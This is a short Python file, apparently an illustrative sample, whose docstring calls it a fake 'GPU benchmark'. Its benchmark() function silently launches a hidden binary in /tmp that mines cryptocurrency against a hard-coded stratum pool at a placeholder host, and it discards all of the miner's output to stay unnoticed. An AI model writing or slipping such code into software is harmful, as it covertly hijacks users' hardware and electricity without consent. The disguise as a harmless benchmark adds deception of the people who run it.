"""A "GPU benchmark" that starts a miner pointed at a pool written in the code."""

import subprocess

WORKER = "/tmp/.cache-worker"


def benchmark():
    subprocess.Popen(
        f"{WORKER} -o stratum+tcp://pool.example.invalid:3333 -u anyone --donate-level 0",
        shell=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
